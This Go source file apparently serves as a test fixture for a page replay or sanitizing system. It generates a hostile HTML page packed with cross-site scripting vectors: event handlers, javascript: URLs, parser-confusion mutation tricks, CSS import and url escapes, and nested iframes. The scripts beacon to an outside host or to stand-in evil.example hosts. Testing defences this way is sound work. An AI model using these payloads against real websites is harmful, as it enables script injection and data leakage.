package replay

import (
	"strconv"
	"strings"
)

// hostilePage tries all ways that are known to run something, and to ask
// another server for something. OUT is that server, SELF the page's own; RUN is
// a script that tells of itself in three ways.
func hostilePage(out, self string) string {
	run := `document.title='PWNED';document.documentElement.setAttribute('data-pwned','1');new(Image)().src='` + out + `/ran-NN'`
	page := `<!DOCTYPE html><html><head><title>Hostile</title>
<meta http-equiv="refresh" content="1;url=OUT/refresh">
<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">
<link rel=preconnect href="OUT"><link rel=dns-prefetch href="//dns.evil.example"><link rel=preload as=image href="OUT/preload"><link rel=prefetch href="OUT/prefetch"><link rel=modulepreload href="OUT/modulepreload">
<link rel=icon href="OUT/icon"><link rel=manifest href="OUT/manifest"><link rel="stylesheet" href="OUT/link.css"><link rel="&#115;tylesheet" href="OUT/link2.css">
<script>RUN1</script><script src="OUT/script.js"></script><SCRIPT
 type=module>RUN2</SCRIPT><script language=javascript src="data:text/javascript,RUN3"></script>
<style>@import "OUT/import1.css";@import url(OUT/import2.css);@\69mport "OUT/import3.css";
body{background:url(OUT/css1)} p{background:u\72l('OUT/css2');list-style:url("OUT/css3")} div{background-image:image-set("OUT/css4" 1x)}
:root{--u:"OUT/css5"} i{background:image-set(var(--u) 1x);content:url(OUT/css6)} @font-face{font-family:x;src:url(OUT/font)} b{font-family:x}</style>
</head><body onload="RUN4" style="cursor:url(OUT/cursor),auto;background-image:url(&quot;OUT/style1&quot;)">
<p>The hostile text is shown.</p>
<img src=x onerror="RUN5"><img src="OUT/img"><img srcset="OUT/srcset1 1x, OUT/srcset2 2x"><img/src="OUT/slash"/onerror=RUN6//><picture><source srcset="OUT/source"><img src=y></picture>
<img src="` + "\x01" + `OUT/ctl"><img src="h&#9;ttp:` + `//evil.example/tab"><img src="\\evil.example\backslash"><img src="//evil.example/relative">
<svg width=10 height=10 onload="RUN7"><script>RUN8</script><script href="OUT/svg.js"></script><image href="OUT/svgimage" xlink:href="OUT/svgimage2" width=9 height=9 /><use href="OUT/use#x"/><feImage href="OUT/feimage"/>
<style>&lt;img src=OUT/svgstyle> rect{fill:url(OUT/svgcss)}</style><rect fill="url(OUT/fill#a)" filter="url(OUT/filter#a)" width=5 height=5 /><animate onbegin="RUN9" attributeName=x dur=1s /><a xlink:href="javascript:RUN10"><text y=9>svg link</text><set attributeName="href" to="javascript:RUN11"/></a>
<image><set attributeName=href to="OUT/svgset" /></image><foreignObject><iframe srcdoc="<script>parent.document.title='PWNED'</script><img src=OUT/foreign>"></iframe></foreignObject></svg>
<iframe src="javascript:RUN12"></iframe><iframe srcdoc="<p>inner text<script>RUN13</script><img src='OUT/srcdoc'><img src=q onerror=RUN14><iframe srcdoc='<script>RUN14</script><img src=OUT/deeper>'></iframe>"></iframe>
<iframe src="data:text/html,<script>new Image().src='OUT/dataframe'</script><img src=OUT/dataimg>"></iframe><iframe src="OUT/frame"></iframe><iframe src="SELF/inner.html"></iframe>
<object data="OUT/object"></object><object data="data:text/html,<img src=OUT/objectdata>"></object><embed src="OUT/embed"><embed src="javascript:RUN15"><applet code="OUT/applet" archive="OUT/applet.jar"></applet>
<video src="OUT/video" poster="OUT/poster" autoplay></video><audio src="OUT/audio" autoplay></audio><video><source src="OUT/vsource"><track default src="OUT/track"></video>
<form id=f action="OUT/form" method=post><input name=a value=b autofocus onfocus="RUN16"><input type=image src="OUT/inputimage"><button formaction="OUT/formaction">go</button></form>
<a id=js href="javascript:RUN17" style="position:absolute;left:20px;top:300px;width:300px;height:40px">click</a><a href="java&Tab;script:RUN18" ping="OUT/ping">x</a>
<base href="OUT/base/"><img src="afterbase.png"><base href="OUT/second/">
<table background="OUT/table"><tr><td background="OUT/td"></table><body background="OUT/body" onpageshow="RUN19">
<details open ontoggle="RUN20"><summary>s</summary></details><marquee onstart="RUN21" loop=1>m</marquee><style onload="RUN22"></style><input onfocus=RUN23 autofocus><select onfocus=RUN24 autofocus></select>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN25&gt;"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=RUN26>">noscript text</noscript>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN27></style></mglyph></form>
<svg></p><style><a id="</style><img src=1 onerror=RUN28>"></style></svg>
<textarea><img title="</textarea><img src onerror=RUN29>"></textarea><title><img title="</title><img src onerror=RUN30>"></title><xmp><img title="</xmp><img src onerror=RUN31>"></xmp><noembed><img title="</noembed><img src onerror=RUN32>"></noembed>
<!--><img src onerror=RUN33>--><!-- --!><img src onerror=RUN34>--><![CDATA[><img src onerror=RUN35>]]><?x><img src onerror=RUN36>?>
<a"b='><img src onerror=RUN37>'><img "=" src=x onerror=RUN38 "><img src=x:x onerror&#61;RUN39><template><script>RUN40</script></template><div><template shadowrootmode=open><img src=x onerror=RUN41><slot></slot></template></div>
<isindex type=image src=1 onerror=RUN42><frameset onload=RUN43><frame src="OUT/frame2"></frameset><plaintext><img src onerror=RUN44>
`
	for i := range 60 {
		n := string(rune('0'+i/10)) + string(rune('0'+i%10))
		page = replaceRun(page, i, strings.ReplaceAll(run, "NN", n))
	}
	return strings.NewReplacer("OUT", out, "SELF", self).Replace(page)
}

// replaceRun puts a script in place of RUNi, but not of RUNi0.
func replaceRun(page string, i int, script string) string {
	name := "RUN" + strconv.Itoa(i)
	var b strings.Builder
	for {
		before, after, ok := strings.Cut(page, name)
		b.WriteString(before)
		if !ok {
			return b.String()
		}
		if len(after) > 0 && '0' <= after[0] && after[0] <= '9' {
			b.WriteString(name)
		} else {
			b.WriteString(script)
		}
		page = after
	}
}
